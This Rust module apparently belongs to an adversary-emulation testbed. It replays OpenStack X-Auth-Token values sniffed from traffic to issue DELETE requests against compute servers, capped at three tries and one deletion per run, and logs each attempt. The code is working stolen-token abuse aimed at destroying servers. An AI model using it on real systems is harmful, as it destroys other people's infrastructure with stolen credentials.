//! Use a stolen token where it was seen in use: delete a server (T1550.001).
//!
//! A part of techniques that steal tokens, not one by itself. At most one deletion a run, at most a few
//! tries; every try is an attempt in the loot, and only an answer that says "done" is claimed as a deed.

use std::time::Duration;

use testbed::foothold::{AttackerTls, Foothold, Reach};

use crate::{
    attack_ids::ACCESS_TOKEN,
    call::{self, Call, Reply},
    loot::{Act, Attempt, Channel, Deed, Haul, Item, Provenance, Step},
    parse::conversation::Heard,
    techniques::plan::{Lead, Place, Plan},
};

/// Servers tried until one deletion succeeds.
const MAX_TRIES: u8 = 3;

/// A replay that waits for its chance.
pub(super) struct Replay {
    step: Step,
    reach: Option<Reach>,
    tls: Option<AttackerTls>,
    plan: Plan,
    tries_left: u8,
}

impl Replay {
    /// Takes what it needs of a foothold; without targets it only learns.
    pub(super) fn new(technique: &'static str, foothold: &Foothold, haul: &mut Haul) -> Self {
        let step = Step { technique, attack_id: ACCESS_TOKEN };
        let reach = haul.granted(step, foothold.reach());
        Self { step, reach, tls: foothold.tls().ok(), plan: Plan::default(), tries_left: MAX_TRIES }
    }

    /// Learns from something overheard.
    pub(super) fn learn(&mut self, heard: &Heard, place: &Place) {
        self.plan.learn(heard, place);
    }

    /// What is known so far.
    pub(super) fn plan(&self) -> &Plan {
        &self.plan
    }

    /// Acts if there is something to act on.
    pub(super) async fn act(&mut self, clock: Duration, haul: &mut Haul) {
        let Some(reach) = self.reach.clone() else { return };
        while self.tries_left > 0 {
            let Some(lead) = self.plan.choose(clock) else { return };
            self.tries_left -= 1;
            let reply = delete(&reach, self.tls.as_ref(), &lead).await;
            if self.record(&lead, &reply, haul) {
                self.tries_left = 0;
            }
        }
    }

    /// Notes the attempt, and the deed if it was confirmed.
    fn record(&self, lead: &Lead, reply: &Reply, haul: &mut Haul) -> bool {
        let Place { target, channel, flow, at } = &lead.place;
        let where_found = "request head X-Auth-Token".to_owned();
        let provenance = Provenance { step: self.step, flow: *flow, at: *at, where_found };
        let path = path(lead);
        let deleted = reply.response.as_ref().filter(|it| matches!(it.head.status, 200..=299));
        haul.take(Item::Attempt(Attempt {
            target: target.id,
            label: target.label.clone(),
            attempt: deletion(&path, lead).line(*channel),
            channel: *channel,
            answer: reply.answer.clone(),
            served: deleted.is_some(),
            provenance: provenance.clone(),
        }));
        let Some(response) = deleted else { return false };
        let request_id = ["x-openstack-request-id", "x-compute-request-id"]
            .iter()
            .find_map(|line| response.head.headers.get(line))
            .map(str::to_owned);
        haul.take(Item::Deed(Deed {
            what: Act::Deleted { server_id: lead.sighting.server_id.clone() },
            label: target.label.clone(),
            request_id,
            status: response.head.status,
            token_user: self.plan.owner(&lead.sighting.token),
            provenance,
        }));
        true
    }
}

/// Speaks as the flow spoke that the token came from.
async fn delete(reach: &Reach, tls: Option<&AttackerTls>, lead: &Lead) -> Reply {
    let path = path(lead);
    let tls = tls.filter(|_| lead.place.channel == Channel::Tls);
    call::call(reach, tls, &lead.place.target, deletion(&path, lead)).await
}

fn deletion<'a>(path: &'a str, lead: &'a Lead) -> Call<'a> {
    Call { method: "DELETE", path, token: Some(&lead.sighting.token) }
}

fn path(lead: &Lead) -> String {
    format!("{}/{}", lead.sighting.collection, lead.sighting.server_id)
}
